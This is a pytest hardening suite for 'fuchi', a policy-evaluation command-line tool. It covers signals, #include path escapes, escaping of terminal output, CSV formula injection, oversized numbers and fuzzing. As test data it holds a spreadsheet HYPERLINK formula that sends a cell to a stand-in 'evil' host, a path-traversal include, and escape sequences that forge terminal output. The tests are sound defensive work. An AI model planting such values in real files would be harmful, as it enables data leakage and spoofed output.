"""Hardening (issue 11): signals, policy files, terminal and spreadsheet output, odd numbers, installs.

Each test fails without its fix. Signals run the real console script on a generated population in its own
session and temporary directory, so leftovers (processes, ``/tmp/pymp-*``) are this run's alone.
"""

from __future__ import annotations

import functools
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fuchi.engines.evaluation import live_processes

ROOT = Path(__file__).resolve().parents[1]
FUCHI = str(Path(sys.executable).with_name("fuchi"))
CITY = str(ROOT / "bench" / "city.yaml")


# ---- 1. signals ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def population(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("population") / "p.jsonl"
    subprocess.run([sys.executable, str(ROOT / "bench" / "generate.py"), "20000", str(out)], check=True)
    return out


def _session(sid: int) -> list[int]:
    """Live (not zombie) processes of session ``sid``."""
    return live_processes(3, sid)


def _interrupt(population: Path, tmp_path: Path, signum: int, *, group: bool, when: str) -> None:
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = dict(os.environ, TMPDIR=str(tmp))
    proc = subprocess.Popen(
        [FUCHI, "evaluate", CITY, str(population), "--format", "json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        start_new_session=True,
        env=env,
        cwd=tmp_path,
    )
    try:
        deadline = time.monotonic() + 60
        if when == "workers":  # main, resource tracker, fork server and at least one worker
            while len(_session(proc.pid)) < 4 and time.monotonic() < deadline and proc.poll() is None:
                time.sleep(0.05)
            time.sleep(0.5)
        else:
            time.sleep(float(when))
        assert proc.poll() is None, "the run ended before the signal"
        (os.killpg if group else os.kill)(proc.pid, signum)
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 128 + signum, err.decode()
        assert out == b""
        assert b"Traceback" not in err, err.decode()
        left = _session(proc.pid)
        while left and time.monotonic() < deadline:
            time.sleep(0.1)
            left = _session(proc.pid)
        assert left == [], "processes left behind"
        assert list(tmp.iterdir()) == [], "temporary files left behind"
    finally:
        for pid in _session(proc.pid):
            os.kill(pid, signal.SIGKILL)
        proc.kill()
        proc.wait()


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_signal_to_main_process_stops_the_tree(population: Path, tmp_path: Path, signum: int) -> None:
    _interrupt(population, tmp_path, signum, group=False, when="workers")


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGHUP, signal.SIGTERM])
def test_signal_to_process_group_stops_the_tree(population: Path, tmp_path: Path, signum: int) -> None:
    # what a terminal's Ctrl-C or hang-up does: every process of the group gets it
    _interrupt(population, tmp_path, signum, group=True, when="workers")


@pytest.mark.parametrize("when", ["0.15", "0.4", "0.6", "0.8", "1.2"])
def test_early_ctrl_c_prints_no_traceback(population: Path, tmp_path: Path, when: str) -> None:
    # while Python imports the command line, while the fork server imports clingo and DuckDB, and while the
    # pool starts its workers (a worker forked but not yet given its task once kept the fork server alive:
    # the run never ended)
    _interrupt(population, tmp_path, signal.SIGINT, group=True, when=when)


# ---- helpers for policy copies and in-process runs -------------------------------------------------------

SHIPPED = ROOT / "policy" / "chongming-digital-2025"
COMPANIES = str(ROOT / "facts" / "companies.yaml")
FACTS_CITY = str(ROOT / "facts" / "city.yaml")


def _copy_policy(tmp_path: Path, name: str = "pol") -> Path:
    import shutil

    dst = tmp_path / name
    shutil.copytree(SHIPPED, dst)
    return dst


def _run(*args: str, input: str | None = None) -> Any:
    from click.testing import CliRunner

    from fuchi.cli import main

    return CliRunner().invoke(main, list(args), input=input)


def _located(result: Any, *parts: str) -> None:
    """Exit 1 with a located message (no internal error, no traceback)."""
    text = result.stderr if hasattr(result, "stderr") else result.output
    assert result.exit_code == 1, (result.exit_code, result.output)
    assert "内部错误" not in text and "internal error" not in text and "Traceback" not in text, text
    for part in parts:
        assert part in text, (part, text)


# ---- 2. #include ------------------------------------------------------------------------------------------


def test_include_outside_the_policy_is_refused(tmp_path: Path) -> None:
    from fuchi.errors import PolicyError
    from fuchi.policy import load_policy

    pol = _copy_policy(tmp_path)
    (tmp_path / "evil.lp").write_text("decision(C, Y, I, not_eligible, 0, none, x) :- touched(C, Y, I).\n")
    (pol / "rules" / "95-extra.lp").write_text('% helpers\n\n#include "../../evil.lp".\n')
    with pytest.raises(PolicyError) as info:
        load_policy(pol)
    assert str(info.value.file).endswith("/pol/rules/95-extra.lp") and info.value.line == 3
    assert "outside the policy directory" in info.value.text
    _located(_run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0"), "rules/95-extra.lp:3")
    check = _run("check", "--policy", str(pol))
    assert check.exit_code == 1 and "outside the policy directory" in check.output


def test_include_in_comment_or_string_is_not_a_directive(tmp_path: Path) -> None:
    from fuchi.policy import _directives

    text = (
        '% #include "a.lp".\n%* #include "b.lp". *%\nq("#include \\"c.lp\\".").\n'
        '#include "d.lp".\n#include <incmode>.\n'
    )
    assert _directives(text) == [("d.lp", 4), (None, 5)]


def test_digest_covers_included_files(tmp_path: Path) -> None:
    from fuchi.policy import load_policy

    pol = _copy_policy(tmp_path)
    (pol / "lib").mkdir()
    (pol / "lib" / "extra.lp").write_text("extra_fact(1).\n")
    (pol / "rules" / "95-extra.lp").write_text('#include "../lib/extra.lp".\n')
    before = load_policy(pol).digest
    (pol / "lib" / "extra.lp").write_text("extra_fact(2).\n")
    assert load_policy(pol).digest != before


# ---- 3. terminal output -----------------------------------------------------------------------------------

NASTY = "A\x1b[31mB\nC\u0085D\u202eE\x9bF"
ESCAPES = ("\\x1b", "\\n", "\\x85", "\\u202e", "\\x9b")


def _raw_free(text: str) -> None:
    for ch in ("\x1b", "\u0085", "\u202e", "\x9b"):
        assert ch not in text, repr(text)


def test_credit_platform_ids_in_totals_are_escaped(tmp_path: Path) -> None:
    import json

    data = tmp_path / "d.json"
    data.write_text(json.dumps({"companies": [{"id": NASTY, "fraud": True}]}))
    result = _run("evaluate", FACTS_CITY, str(data), "--workers", "0")
    assert result.exit_code == 0, result.output
    _raw_free(result.output)
    assert "\nC" not in result.output.replace("\\n", "")  # no line starts with the id's second half
    for esc in ESCAPES:
        assert esc in result.output


def test_json_output_escapes_c1_and_bidi(tmp_path: Path) -> None:
    import json

    data = tmp_path / "d.json"
    data.write_text(json.dumps({"companies": [{"id": NASTY, "fraud": True}]}))
    result = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--format", "json")
    assert result.exit_code == 0, result.output
    _raw_free(result.output)
    assert json.loads(result.output)["totals"]["flags"]["credit_platform"] == [NASTY]


def test_file_names_on_stderr_are_escaped(tmp_path: Path) -> None:
    name = str(tmp_path / "x\x1b[2J\nerror: forged\u202e.yaml")
    result = _run("evaluate", name, "--workers", "0")
    assert result.exit_code == 1
    _raw_free(result.output)
    assert "\nerror: forged" not in result.output and "\\x1b[2J" in result.output


# ---- 4. numbers beyond Decimal's exponent ------------------------------------------------------------------

HUGE = ["1e99999999999999999999", "-1e99999999999999999999", "1e999999999999999999", "1e-99999999999999999999"]


@pytest.mark.parametrize("number", HUGE)
@pytest.mark.parametrize("fmt", ["yaml", "json", "jsonl"])
def test_huge_number_in_data_is_a_located_input_error(tmp_path: Path, fmt: str, number: str) -> None:
    for field, expect in (
        ("revenue", "revenue.2026"),
        ("pflops", "compute_projects[0].pflops"),
        ("year", "compute_projects[0].year"),
        ("name", "name"),
    ):
        record = {
            "revenue": f'{{"2026": {number}}}',
            "pflops": f'[{{"id": "dc", "year": 2026, "kind": "new", "pflops": {number}, "pue": 1, "cost": 1}}]',
            "year": f'[{{"id": "dc", "year": {number}, "kind": "new", "pflops": 1, "pue": 1, "cost": 1}}]',
            "name": number,
        }[field]
        key = "compute_projects" if field in ("pflops", "year") else field
        line = f'{{"id": "A", "{key}": {record}}}'
        data = tmp_path / f"d.{fmt}"
        texts = {"yaml": f"companies:\n  - {line}\n", "json": f'{{"companies": [{line}]}}', "jsonl": line + "\n"}
        data.write_text(texts[fmt])
        result = _run("evaluate", FACTS_CITY, str(data), "--workers", "0")
        _located(result, str(data), "'A'", expect)


@pytest.mark.parametrize("number", HUGE + ["1e30", "99999999999999"])
@pytest.mark.parametrize("param", ["payable_offset", "match_ratio", "match_cap", "award_2_1_b"])
def test_huge_number_in_parameters_is_a_located_policy_error(tmp_path: Path, param: str, number: str) -> None:
    import re

    pol = _copy_policy(tmp_path)
    path = pol / "parameters.yaml"
    text = path.read_text()
    block = re.search(rf"^{param}:\n(?:  .*\n)+", text, re.MULTILINE)
    assert block is not None
    value = re.search(r"^  value: (.*)$", block.group(0), re.MULTILINE)
    assert value is not None
    raw = value.group(1)
    new = re.sub(r"(?<=: )[0-9.]+(?=[,}])", number, raw, count=1) if raw.startswith("{") else number
    path.write_text(text.replace(block.group(0), block.group(0).replace(raw, new)))
    line = text[: block.start()].count("\n") + 1
    result = _run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0")
    if number == "99999999999999" and param in ("match_cap", "award_2_1_b"):
        assert result.exit_code == 0  # a large amount in range
        return
    _located(result, f"parameters.yaml:{line}", param)
    check = _run("check", "--policy", str(pol))
    assert check.exit_code == 1 and f"parameters.yaml:{line}:" in check.output and param in check.output


# ---- 5. fuchi clingo ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("program", "message"),
    [
        ("p(@nosuch(1)).\n", "p.lp:1: 政策错误 policy error: unknown function @nosuch"),
        ("q.\np(@cap(m(0,0,1), m(0,0,2), 3)).\n", "p.lp:2: 政策错误 policy error: @cap takes 2 arguments, not 3"),
        ("p(@share(m(0,0,1))).\n", "p.lp:1: 政策错误 policy error: @share takes 2 arguments, not 1"),
        ("\np(@times(m(0,0,100), -1)).\n", "p.lp:2: 政策错误 policy error: @times: negative count -1"),
        ("p(@share(m(0,0,100), a)).\n", "p.lp:1: 政策错误 policy error: a is not a decimal term"),
        ("p(1).\n:- syntax error here\n", "p.lp:2: 政策错误 policy error: 规则无法解析 the rule does not parse"),
        (None, "missing.lp: 政策错误 policy error: 文件不存在或不可读 / file not found"),
    ],
)
def test_fuchi_clingo_errors_without_traceback(tmp_path: Path, program: str | None, message: str) -> None:
    name = "missing.lp"
    if program is not None:
        name = "p.lp"
        (tmp_path / name).write_text(program)
    result = subprocess.run([FUCHI, "clingo", name], cwd=tmp_path, capture_output=True, text=True)
    assert result.returncode == 65, result.stderr
    assert "Traceback" not in result.stderr and "*** ERROR" not in result.stderr, result.stderr
    assert result.stderr.count("政策错误 policy error") == 1, result.stderr
    assert message in result.stderr, result.stderr


def test_fuchi_clingo_reads_stdin_once(tmp_path: Path) -> None:
    result = subprocess.run([FUCHI, "clingo"], input="q. p(@times(m(0,0,100), 3)).\n", capture_output=True, text=True)
    assert result.returncode == 10 and "p(m(0,0,300))" in result.stdout, result.stdout + result.stderr
    result = subprocess.run([FUCHI, "clingo"], input="p(@nosuch(1)).\n", capture_output=True, text=True)
    assert result.returncode == 65 and "unknown function @nosuch" in result.stderr
    assert "Traceback" not in result.stderr


def test_unknown_function_in_policy_is_a_located_policy_error(tmp_path: Path) -> None:
    pol = _copy_policy(tmp_path)
    (pol / "rules" / "50-extra.lp").write_text(
        "%@ rule: x.extra\n%@ clause: -\nbig(C) :- company(C), X = @nosuch(1, 2), X > 0.\n"
    )
    for engine in ("clingo", "auto"):
        result = _run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0", "--engine", engine)
        _located(result, "rules/50-extra.lp:3", "unknown function @nosuch")
    (pol / "rules" / "50-extra.lp").write_text(
        "%@ rule: x.extra\n%@ clause: -\nbig(C) :- company(C), X = @share(1), X > 0.\n"
    )
    result = _run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0", "--engine", "clingo")
    _located(result, "rules/50-extra.lp:3", "@share takes 2 arguments")


# ---- 6. explain finds ids written with JSON escapes ----------------------------------------------------------


def test_explain_finds_ids_written_with_json_escapes(tmp_path: Path) -> None:
    data = tmp_path / "e.jsonl"
    data.write_text('{"id": "A\\/B", "fraud": true}\n{"id": "\\u0041BC"}\n{"id": "X", "name": "a\\nb"}\nnot json\n')
    listed = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--format", "json")
    assert listed.exit_code == 1  # the bad line is evaluate's business; explain looks for one enterprise
    for ident, line in (("A/B", 1), ("ABC", 2), ("X", 3)):
        result = _run("explain", ident, FACTS_CITY, str(data), "--format", "json")
        assert result.exit_code == 0, result.output
        assert f"e.jsonl:{line}" in result.output
    twice = tmp_path / "t.jsonl"
    twice.write_text('{"id": "A/B"}\n{"id": "A\\/B"}\n')
    _located(_run("explain", "A/B", FACTS_CITY, str(twice)), "t.jsonl:2", "duplicate")


# ---- 7. policy-file errors are policy errors, from check and evaluate alike ---------------------------------


def _append(path: Path, data: bytes) -> None:
    path.write_bytes(path.read_bytes() + data)


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


BROKEN_POLICIES = {
    "rule file not UTF-8": (lambda p: _append(p / "rules" / "10-gate.lp", b"\n% \xff\n"), "rules/10-gate.lp:64"),
    "parameters not UTF-8": (lambda p: _append(p / "parameters.yaml", b"\n# \xff\n"), "parameters.yaml:"),
    "policy.yaml not UTF-8": (lambda p: _append(p / "policy.yaml", b"\n# \xff\n"), "policy.yaml:"),
    "messages not UTF-8": (lambda p: _append(p / "messages.yaml", b"\n# \xff\n"), "messages.yaml:"),
    "table without key_type": (
        lambda p: _replace(
            p / "parameters.yaml", "  key_type: string\n  value_type: symbol\n", "  value_type: symbol\n"
        ),
        "parameters.yaml:39",
    ),
    "table of a list": (
        lambda p: _replace(p / "parameters.yaml", "  value_type: symbol\n  value: {", "  value: [1, 2]\n  old: {"),
        "parameters.yaml:",
    ),
    "parameter text a string": (
        lambda p: _replace(
            p / "parameters.yaml",
            "  text: {zh: 当年数据的兑付在次年开展, en: each year's data is paid out in the following year}",
            "  text: paid in the following year",
        ),
        "parameters.yaml:31",
    ),
    "title a string": (
        lambda p: _replace(p / "policy.yaml", "title:\n  zh:", "title: x\nold:\n  zh:"),
        "policy.yaml:6",
    ),
    "clause title a string": (
        lambda p: _replace(p / "policy.yaml", "clauses:\n", "clauses:\n  '9.9': {title: x, zh: y, en: z}\n"),
        "clauses.9.9.title",
    ),
    "messages a list": (lambda p: (p / "messages.yaml").write_text("- a\n- b\n"), "messages.yaml:1"),
    "message a string": (lambda p: _append(p / "messages.yaml", b"\nfoo/0: bar\n"), "foo/0"),
    "empty parameters.yaml": (lambda p: (p / "parameters.yaml").write_text(""), "is not defined in parameters.yaml"),
    "#script": (
        lambda p: (p / "rules" / "95-s.lp").write_text("% x\n#script (python)\ndef f(): pass\n#end.\n"),
        "rules/95-s.lp:2",
    ),
}


@pytest.mark.parametrize("name", sorted(BROKEN_POLICIES))
def test_policy_file_errors_are_policy_errors_in_check_and_evaluate(tmp_path: Path, name: str) -> None:
    mutate, where = BROKEN_POLICIES[name]
    pol = _copy_policy(tmp_path)
    mutate(pol)
    for engine in ("auto", "clingo"):
        result = _run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0", "--engine", engine)
        _located(result, "政策错误 policy error", where)
    check = _run("check", "--policy", str(pol))
    assert check.exit_code == 1, check.output
    assert where in check.output and "internal error" not in check.output, check.output


def test_script_in_a_comment_or_string_is_no_script(tmp_path: Path) -> None:
    from fuchi.policy import load_policy

    pol = _copy_policy(tmp_path)
    (pol / "rules" / "95-s.lp").write_text('% #script (python)\nnote("#script").\n')
    load_policy(pol)


# ---- 8. CSV cells that a spreadsheet would run ---------------------------------------------------------------


def test_csv_cells_starting_like_a_formula_are_text(tmp_path: Path) -> None:
    import csv
    import io
    import json

    import yaml

    shipped = yaml.safe_load((ROOT / "facts" / "companies.yaml").read_text(encoding="utf-8"))["companies"]
    ids = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tA", "\rB", "＝1+1", "safe"]
    companies = []
    for ident, co in zip(ids, shipped, strict=False):
        companies.append(dict(co, id=ident))
    data = tmp_path / "d.json"
    data.write_text(json.dumps({"companies": companies}, default=str))
    result = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    seen = {r["company"] for r in rows}
    assert "safe" in seen and len(seen) == len(ids), seen
    for r in rows:
        for key, cell in r.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (key, cell)
    assert '\'=HYPERLINK("http://evil/?"&A1,"x")' in seen and "'-2+3" in seen
    json_out = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--format", "json")
    assert {r["company"] for r in json.loads(json_out.stdout)["results"]} == set(ids)  # JSON: the data as it is


# ---- 9. installs: the shipped policy travels inside the package -------------------------------------------


def test_package_data_covers_every_file_of_the_shipped_policy() -> None:
    import fnmatch
    import tomllib

    patterns = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]["fuchi"]
    for path in sorted(SHIPPED.rglob("*")):
        if path.is_file():
            rel = "policies/chongming-digital-2025/" + path.relative_to(SHIPPED).as_posix()
            assert any(fnmatch.fnmatchcase(rel, p) and rel.count("/") == p.count("/") for p in patterns), rel


def test_installed_package_finds_its_policy_outside_any_checkout(tmp_path: Path) -> None:
    # what `pip install .` lays out: the package with the policy as package data, no policy/ directory above it
    import shutil

    site = tmp_path / "site"
    shutil.copytree(
        ROOT / "src" / "fuchi", site / "fuchi", symlinks=False, ignore=shutil.ignore_patterns("__pycache__")
    )
    assert (site / "fuchi" / "policies" / "chongming-digital-2025" / "rules").is_dir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    env = dict(os.environ, PYTHONPATH=str(site))
    code = "import sys; from fuchi.__main__ import main; sys.argv = ['fuchi'] + sys.argv[1:]; main()"
    result = subprocess.run(
        [sys.executable, "-c", code, "evaluate", FACTS_CITY, COMPANIES, "--format", "json", "--workers", "0"],
        cwd=elsewhere,
        env=env,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    assert '"id": "chongming-digital-2025"' in result.stdout
    where = subprocess.run(
        [sys.executable, "-c", "import fuchi.policy as p; print(p.default_policy_dir())"],
        cwd=elsewhere,
        env=env,
        capture_output=True,
        text=True,
    )
    assert where.stdout.strip().startswith(str(site)), where.stdout


# ---- 10. the table format holds a bounded number of rows ---------------------------------------------------


def test_table_holds_at_most_one_chunk_and_stays_aligned() -> None:
    import io
    import re

    from fuchi.engines.evaluation import Row
    from fuchi.output import render
    from fuchi.output.totals import Totals
    from fuchi.policy import load_policy

    policy = load_policy(SHIPPED)
    out = io.StringIO()
    writer = render.TableWriter(out, policy, terminal=False)
    n = 2 * render.TableWriter.CHUNK + 345
    totals = Totals(items=policy.items)
    for k in range(n):
        reason = "符合条件 / conditions met" + " and more" * (k % 7)
        writer.row(Row(f"E{k:07d}", 2026, "2.2.b", "granted", 100_000 * (k % 5), 2027, reason))
        totals.add("granted", "2.2.b", 100_000 * (k % 5), 2027)
        assert len(writer.rows) < render.TableWriter.CHUNK  # never the whole result in memory
    writer.finish(totals)
    text = out.getvalue()
    starts = {m.start() - text.rfind("\n", 0, m.start()) for m in re.finditer(r"E\d{7}", text)}
    assert len(starts) == 1  # every chunk's enterprise column starts at the same place
    years = {line.index(" 2026 ") for line in text.splitlines() if re.match(r"\s+E\d{7}", line)}
    assert len(years) == 1, years  # and so does the year column
    assert len(re.findall(r"E\d{7}", text)) == n
    assert text.count("Enterprise") == 1 and text.count("合计 Totals") == 1


def test_table_of_few_rows_is_unchanged_by_chunking(monkeypatch: pytest.MonkeyPatch) -> None:
    from fuchi.output import render

    whole = _run("evaluate", FACTS_CITY, COMPANIES, "--workers", "0")
    monkeypatch.setattr(render.TableWriter, "CHUNK", 7)
    chunked = _run("evaluate", FACTS_CITY, COMPANIES, "--workers", "0")
    assert whole.exit_code == chunked.exit_code == 0
    assert chunked.stdout == whole.stdout


def test_table_of_a_population_is_aligned_and_the_same_for_both_engines(tmp_path: Path) -> None:
    """The rows laid out line by line (issue 11.10): aligned columns whatever the chunk, any engine, same bytes."""
    import json
    import re

    from rich.cells import cell_len

    path = tmp_path / "p.jsonl"
    subprocess.run([sys.executable, str(ROOT / "bench" / "generate.py"), "250", str(path), "--seed", "7"], check=True)
    with path.open("a", encoding="utf-8") as fh:  # CJK, escapes and a long id among the generated ones
        fh.write(json.dumps({"id": "宽字符企业" * 3, "name": "上海", "fraud": True}, ensure_ascii=False) + "\n")
        fh.write(json.dumps({"id": "Z\x1b[31m\nZ", "fraud": True}) + "\n")
    outs = {}
    for engine in ("sql", "clingo"):
        result = subprocess.run(
            [FUCHI, "evaluate", CITY, str(path), "--engine", engine, "--workers", "0", "--format", "table"],
            capture_output=True,
        )
        assert result.returncode == 0, result.stderr.decode()
        outs[engine] = result.stdout
    assert outs["sql"] == outs["clingo"]  # byte-identical across engines
    text = outs["sql"].decode("utf-8")
    rows = subprocess.run(
        [FUCHI, "evaluate", CITY, str(path), "--workers", "0", "--format", "csv"], capture_output=True, check=True
    ).stdout.decode("utf-8")
    n = len(rows.splitlines()) - 1
    assert n > 1000  # more than one chunk
    lines = text.split("\n")
    head = next(k for k, line in enumerate(lines) if line.lstrip().startswith("━"))
    end = next(k for k in range(head + 1, len(lines)) if not lines[k].strip())
    body = lines[head + 1 : end]
    width = cell_len(lines[head])
    assert {cell_len(line) for line in body} == {width}  # every line as wide as the header rule

    def cells(line: str, start: int, stop: int) -> str:  # the characters at cells [start, stop)
        out, at = "", 0
        for ch in line:
            if start <= at < stop:
                out += ch
            at += cell_len(ch)
        return out

    # The columns never move: a row's first line has its year at the same cells as the header's "Year", and
    # between every two columns the same three cells are blank on every line.
    header = next(line for line in lines if "Enterprise" in line)
    year = header.index("Year")  # (ASCII before it: characters are cells)
    firsts = [line for line in body if re.fullmatch(r"20\d\d", cells(line, year, year + 4))]
    assert len(firsts) == n  # one first line per row; the others continue a wrapped cell
    gaps = [m.start() for m in re.finditer(r"   (?=\S)", header)]
    assert len(gaps) >= 6
    for line in body:
        assert all(cells(line, g, g + 3) == "   " for g in gaps), line
    assert "\x1b" not in text and "Z\\x1b[31m\\nZ" in text and "宽字符企业宽字符企业" in text


# ---- 11. smaller: directories, FIFOs, encodings, output files, booleans, years ------------------------------


def test_a_directory_as_file_is_an_input_error(tmp_path: Path) -> None:
    for name in ("d.yaml", "d.jsonl", "d"):
        (tmp_path / name).mkdir()
        _located(_run("evaluate", str(tmp_path / name), "--workers", "0"), str(tmp_path / name))
        _located(_run("facts", str(tmp_path / name)), str(tmp_path / name))


def test_a_fifo_is_read_like_a_file(tmp_path: Path) -> None:
    import threading

    for name, text in (
        ("p.jsonl", '{"id": "F1", "fraud": true}\n'),
        ("p.yaml", "companies:\n  - {id: F1, fraud: true}\n"),
    ):
        fifo = tmp_path / name
        os.mkfifo(fifo)

        def feed(fifo: Path = fifo, text: str = text) -> None:
            with open(fifo, "w") as fh:
                fh.write(text)

        writer = threading.Thread(target=feed, daemon=True)
        writer.start()
        result = subprocess.run(
            [FUCHI, "evaluate", str(fifo), "--format", "json", "--workers", "0"], capture_output=True, text=True
        )
        writer.join(10)
        if writer.is_alive():  # nobody read the FIFO: open it ourselves so that the writer ends
            os.close(os.open(fifo, os.O_RDONLY | os.O_NONBLOCK))
            writer.join(10)
        assert result.returncode == 0, result.stderr
        assert '"credit_platform": ["F1"]' in result.stdout


def test_an_ascii_locale_still_gets_the_results_in_utf8(tmp_path: Path) -> None:
    env = dict(os.environ, PYTHONIOENCODING="ascii")
    result = subprocess.run(
        [FUCHI, "evaluate", FACTS_CITY, COMPANIES, "--format", "csv", "--workers", "0"], capture_output=True, env=env
    )
    assert result.returncode == 0, result.stderr.decode()
    assert "不在有效期" in result.stdout.decode("utf-8")
    missing = subprocess.run([FUCHI, "evaluate", "nope.yaml"], capture_output=True, env=env, cwd=tmp_path)
    assert missing.returncode == 1 and b"internal error" not in missing.stderr and b"nope.yaml" in missing.stderr


def test_junit_into_a_missing_directory_is_an_output_error(tmp_path: Path) -> None:
    target = tmp_path / "no" / "such" / "report.xml"
    result = _run("test", "--junit", str(target), "-k", "2.1.b")
    assert result.exit_code == 1 and "internal error" not in result.output, result.output
    assert str(target) in result.output and result.stdout == ""
    ok = _run("test", "--junit", str(tmp_path / "report.xml"), "-k", "2.1.b")
    assert ok.exit_code == 0 and (tmp_path / "report.xml").read_text().startswith("<?xml")


@pytest.mark.parametrize("value", ["tRuE", "fALSE", "tRUE", "yes"])
def test_only_yaml_booleans_are_booleans(tmp_path: Path, value: str) -> None:
    data = tmp_path / "b.yaml"
    data.write_text(f"companies:\n  - id: A\n    fraud: {value}\n")
    _located(_run("evaluate", str(data), "--workers", "0"), "'A'", "field fraud", f"got '{value}'")
    data.write_text("companies:\n  - id: A\n    fraud: TRUE\n    market_violation: False\n")
    assert _run("evaluate", str(data), "--workers", "0").exit_code == 0


@pytest.mark.parametrize("fmt", ["yaml", "json", "jsonl"])
def test_a_year_with_a_leading_zero_is_no_year(tmp_path: Path, fmt: str) -> None:
    line = '{"id": "A", "revenue": {"02026": 5}}'
    data = tmp_path / f"y.{fmt}"
    data.write_text({"yaml": f"companies:\n  - {line}\n", "json": f'{{"companies": [{line}]}}', "jsonl": line}[fmt])
    _located(_run("evaluate", str(data), "--workers", "0"), "'A'", "field revenue", "got '02026'")


def test_check_bounds_a_grounding_that_never_ends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from fuchi.drafting import checker

    pol = _copy_policy(tmp_path)
    (pol / "rules" / "95-loop.lp").write_text("%@ rule: x.loop\n%@ clause: -\nn(0).\nn(X+1) :- n(X).\n")
    monkeypatch.setattr(checker, "GROUND_SECONDS", 3.0)
    started = time.monotonic()
    findings = checker.check_policy(pol)
    assert time.monotonic() - started < 60
    assert [f.code for f in findings if f.severity == "error"] == ["ground-timeout"], findings
    assert "did not finish within 3 s" in findings[0].message
    monkeypatch.undo()  # the shipped policy, at the usual bound: no error
    assert [f for f in checker.check_policy(SHIPPED) if f.severity == "error"] == []


# ---- fuzz: arbitrary values in every field give a result or a located error, never an internal error --------


_NUMBER_TEXTS = ["1e99999999999999999999", "-1e999999999999999999", "1e-99999999999999999999", "0.001", "NaN"]
_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.sampled_from([0, 1, 2026, 1899, 2201, 10**12, 10**12 + 1, -1, 2**31, 2**63]),
    st.decimals(allow_nan=False, allow_infinity=False).map(lambda d: ("number", str(d))),
    st.sampled_from(_NUMBER_TEXTS).map(lambda t: ("number", t)),
    st.text(max_size=12),
    st.sampled_from(["chongming", "6513", "2.9", "2.4.b", "approved", "new", "ai", "sh_top100", "\x00", "\ud800"]),
)
_KEYS = st.one_of(st.text(max_size=6), st.sampled_from(["2026", "02026", "id", "year", "kind", "amount"]))
_VALUES = st.recursive(
    _SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(_KEYS, inner, max_size=4)),
    max_leaves=12,
)


def _json_text(value: Any) -> str:
    """JSON text of a generated value; ("number", text) is a number written as that text."""
    import json

    if isinstance(value, tuple):
        return value[1]
    if isinstance(value, list):
        return "[" + ", ".join(_json_text(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{json.dumps(k)}: {_json_text(v)}" for k, v in value.items()) + "}"
    return json.dumps(value)


@functools.cache
def _shipped_schema() -> Any:
    from fuchi.policy import load_policy

    return load_policy(SHIPPED).schema


def _enterprise_strategy() -> Any:
    schema = _shipped_schema()
    names = [f.name for f in schema.fields]
    records = {f.name: [r.name for r in f.records] for f in schema.fields if f.records}

    def value_of(name: str) -> Any:
        if name in records:  # a list of records with the declared fields (or anything)
            record = st.dictionaries(st.sampled_from(records[name]), _VALUES, max_size=len(records[name]))
            return st.one_of(st.lists(record, max_size=3), _VALUES)
        return _VALUES

    fields = st.lists(st.sampled_from(names).flatmap(lambda n: st.tuples(st.just(n), value_of(n))), max_size=6)
    return st.tuples(st.one_of(st.just("E1"), _VALUES), fields)


def _enterprise_json(case: Any) -> str:
    ident, fields = case
    return "{" + ", ".join([f'"id": {_json_text(ident)}'] + [f'"{n}": {_json_text(v)}' for n, v in fields]) + "}"


@settings(max_examples=500, deadline=None)
@given(_enterprise_strategy())
def test_fuzz_loader_gives_a_company_or_a_located_input_error(case: Any) -> None:
    from fuchi.errors import InputError
    from fuchi.inputs import loader

    try:
        loader.parse_jsonl_line(_enterprise_json(case), "fuzz.jsonl", 7, _shipped_schema())
    except InputError as exc:
        assert exc.message().startswith("fuzz.jsonl:7: "), exc.message()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(_enterprise_strategy())
def test_fuzz_evaluate_gives_results_or_exit_1(tmp_path: Path, case: Any) -> None:
    import json

    import yaml

    text = _enterprise_json(case)
    data = tmp_path / "f.jsonl"
    data.write_bytes(text.encode("utf-8", "surrogatepass") + b"\n")
    result = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--engine", "clingo", "--format", "json")
    if result.exit_code != 0:
        _located(result, str(data))
    try:
        doc = json.loads(text)
        ytext = yaml.safe_dump({"companies": [doc]}, allow_unicode=True)
        ytext.encode("utf-8")
    except (ValueError, yaml.YAMLError, UnicodeEncodeError):
        return
    ydata = tmp_path / "f.yaml"
    ydata.write_text(ytext, encoding="utf-8")
